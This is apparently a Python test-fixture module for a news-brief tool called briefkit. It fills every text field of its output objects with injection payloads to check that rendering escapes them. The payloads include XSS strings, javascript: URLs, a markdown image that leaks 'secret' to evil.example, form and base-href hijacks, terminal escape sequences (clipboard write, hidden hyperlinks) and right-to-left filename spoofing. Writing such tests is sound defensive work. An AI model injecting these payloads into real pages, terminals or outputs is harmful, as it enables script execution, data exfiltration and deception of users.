"""What a model or an article might hold to act instead of being read, and a result that holds it everywhere."""

from __future__ import annotations

from typing import Any

from briefkit.schema import (
    Abstention,
    Analysis,
    Article,
    Attribution,
    Brief,
    Checked,
    Finding,
    KeyPoint,
    LineReport,
    NameMention,
    PolicyRef,
    Position,
    Provenance,
    Question,
    Questions,
    Quotation,
    Report,
    Result,
    Severity,
    Signal,
    Stake,
    Statement,
    Tags,
    Unknown,
)

PLACES: tuple[tuple[Severity, str], ...] = (
    ("error", "headline"),
    ("warning", "signals[0].when"),
    ("note", ""),  # stands for the payload
)
PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "image": "![x](https://evil.example/?q=secret)",
    "reference": "[x][1]\n\n[1]: https://evil.example",
    "autolink": "<https://evil.example> www.evil.example a@evil.example http://e.example/<b>`x`",
    "entity": "&lt;script&gt; &#60;b&#x3e; AT&T",
    "heading": "# not a heading",
    "list": "- not\n- a list",
    "number": "1. not a list",
    "rule": "---",
    "setext": "text\n===",
    "fence": "```\ncode\n```",
    "indent": "        code",
    "table": "| a | b |\n|---|---|",
    "backslash": "a\\",
    "colour": "\x1b[31mred\x1b[0m",
    "clipboard": "\x1b]52;c;aGVsbG8=\x07",
    "link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "c1": "\x9b31m",
    "override": "\u202egnp.exe",
    "tags": "".join(chr(0xE0000 + ord(char)) for char in "hidden"),
    "surrogate": "\ud800",
    "rich": "[bold]x[/bold][link=https://e.example]y[/link]",
    "return": "safe\roverwritten",
}

PAGE_PAYLOADS = {
    "tooltip": '" onmouseover="alert(1)" x="',
    "address": "javascript:alert(1)",
    "template": "{{ view }}{% for x in y %}{# z #}",
    "ends the style": "</style><script>alert(1)</script>",
    "ends the title": "</title><base href=//evil.example>",
    "ends the copy": "</textarea><form action=//evil.example><input name=a>",
    "comment": "<!-- --!> <![CDATA[ ]]>",
    "svg": "<svg/onload=alert(1)><animate xlink:href=#P1 attributeName=href values=javascript:alert(1)>",
    "policy": '<meta http-equiv=Content-Security-Policy content="script-src *">',
}
"""What is aimed at a page: its style, title, copies, policy."""


def made_of(payload: str) -> Result:
    """Return a result in which every free text is the payload, the article's too."""
    article = Article(text=payload * 2, headline=payload, publisher=payload, url=payload)
    spans = [article.span(0, len(payload))]
    said: dict[str, Any] = {"text": payload, "evidence": spans}
    question = Question(**said, why_open=payload, who_could_answer=[payload], settled_by=payload)
    attribution = Attribution(speaker=payload, form="on_record", verb=payload, via=payload)
    made = Provenance(
        briefkit="1", article_sha256=article.sha256, notes=[payload], model_asked=payload, host=payload
    )
    brief = Brief(
        article_sha256=article.sha256,
        language="en",
        headline=Statement(**said),
        dek=Statement(**said, basis="inferred"),
        lede=Abstention(abstained=payload),
        key_points=[
            KeyPoint(**said, role="watch", attribution=attribution, status="claimed", hedge=payload)
            for _ in range(4)
        ],
        stakes=[Stake(**said, party=payload, group="public")],
        questions=Questions(financial=question, operating=question, customer=Abstention(abstained=payload)),
        signals=[
            Signal(**said, threshold=payload, when=payload, where_seen=payload, if_yes=payload, if_no=payload)
        ],
        analysis=Analysis(
            context=Statement(**said),
            pressure_point=Statement(**said),
            differs=Abstention(abstained=payload),
            practical_read=Statement(**said),
        ),
        other_side=[Position(**said, holder=payload)],
        unknowns=[Unknown(**said, how="declined")],
        more={
            "own": Statement(**said),
            "listed": [question, question],
            "none": Abstention(abstained=payload),
        },
        more_titles=dict.fromkeys(("own", "listed"), payload[:80]),
        names=[NameMention(name=payload, span=spans[0], count=1)],
        quotes=[Quotation(span=spans[0], speaker=payload)],
        tags=Tags(),
        provenance=made,
    )
    findings = [
        Finding(
            code="x.y",
            severity=severity,
            path=path or payload,
            message=payload,
            hint=payload,
            nearest=spans[0],
            offending=payload,
        )
        for severity, path in PLACES
    ]
    return Result(status="review", brief=brief, findings=findings, article=article, provenance=made)


def report_of(payload: str) -> Report:
    """Return a report in which every free text is the payload, the article's too."""
    article = Article(text=payload * 2, headline=payload, publisher=payload, url=payload)
    nearest = article.span(0, len(payload))
    item = Checked(kind="name", text=payload, outcome="absent", note=payload, source=nearest)
    places: list[tuple[Severity, str]] = [("error", "lines[0]"), ("warning", ""), ("note", payload)]
    left = Checked(kind="number", text="", outcome="unchecked", note=payload)
    findings = [
        Finding(
            code="x.y",
            severity=severity,
            path=path,
            message=payload,
            hint=payload,
            nearest=nearest,
            offending=payload,
        )
        for severity, path in places
    ]
    return Report(
        policy=PolicyRef(version=payload, sha256=payload),
        article_sha256=article.sha256,
        article=article,
        language="en",
        lines=[
            LineReport(
                path=f"lines[{place}]",
                text=payload,
                evidence=[nearest],
                evidence_by="found",
                checked=[item, left],
            )
            for place in range(2)
        ],
        findings=findings,
    )
